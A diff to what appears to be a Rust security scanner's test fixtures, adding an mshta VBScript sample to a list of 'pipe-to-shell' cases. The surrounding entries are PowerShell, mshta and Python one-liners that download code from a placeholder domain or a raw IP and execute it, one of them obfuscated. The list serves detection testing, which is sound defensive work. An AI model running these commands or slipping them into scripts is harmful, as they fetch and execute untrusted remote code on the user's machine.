@@ -97,6 +97,7 @@ pub(super) const BAD: &[Bad] = &[
     ("pipe-to-shell", 'W', "scripts/run.ps1", "Invoke-WebRequest https://x.forms.dev/i.ps1 | Invoke-Expression\n"),
     ("pipe-to-shell", 'E', "scripts/run.ps1", "iex(irm http://45.61.136.10/i)\n"),
     ("pipe-to-shell", 'E', "scripts/run.ps1", "mshta http://45.61.136.10/a.hta\n"),
+    ("pipe-to-shell", 'W', "scripts/run.bat", "mshta VBSCRIPT:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run\")\n"),
     ("pipe-to-shell", 'W', "scripts/run.ps1", "I`EX (irm https://x.forms.dev/i)\n"),
     ("pipe-to-shell", 'W', "scripts/run.py", "import urllib.request\nexec(urllib.request.urlopen(\"https://x.forms.dev/a\").read())\n"),
     ("pipe-to-shell", 'W', "scripts/run.py", "import requests\ncode = requests.get(\"https://x.forms.dev/a\").text\nexec(code)\n"),
